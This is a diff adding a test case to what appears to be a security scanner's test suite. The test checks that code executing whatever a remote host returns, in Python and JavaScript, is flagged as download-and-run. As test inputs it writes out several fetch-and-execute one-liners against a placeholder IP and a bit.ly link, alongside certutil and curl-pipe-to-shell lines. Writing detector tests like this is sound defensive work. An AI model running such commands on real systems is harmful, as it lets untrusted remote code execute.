@@ -103,6 +103,18 @@ describe('untrusted-remote-script', () => {
     expect(run('certutil -urlcache -f http://192.0.2.9/x\nnotepad.exe\nnotepad.exe')).toEqual([]);
   });
 
+  it('flags exec or eval of what a request from such a host returned, in Python and JavaScript', () => {
+    const run = (text: string) => scanMalicious(text).map((f) => `${f.technique}/${f.pattern}`);
+    const downloadRun = ['untrusted-remote-script/download-run'];
+    expect(run("exec(urlopen('http://192.0.2.9/p.py').read())")).toEqual(downloadRun);
+    expect(run('python3 -c "import urllib.request as u; exec(u.urlopen(\'http://192.0.2.9/p.py\').read())"')).toEqual(downloadRun);
+    expect(run("exec(requests.get('https://bit.ly/x').text)")).toEqual(downloadRun);
+    expect(run("eval(await (await fetch('http://192.0.2.9/a.js')).text())")).toEqual(downloadRun);
+    // A named https host stays undeclared-risk's; data fetched and code run apart are not this.
+    expect(run("exec(requests.get('https://raw.githubusercontent.com/a/b/main/x.py').text)")).toEqual([]);
+    expect(run("data = requests.get('http://192.0.2.9/d.json').json()\nexec(code)")).toEqual([]);
+  });
+
   it('leaves a named https host, localhost and brew shellenv to undeclared-risk', () => {
     expect(scanMalicious("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh")).toEqual([]);
     expect(scanMalicious('curl -s http://localhost:8080/health | python3 -m json.tool')).toEqual([]);
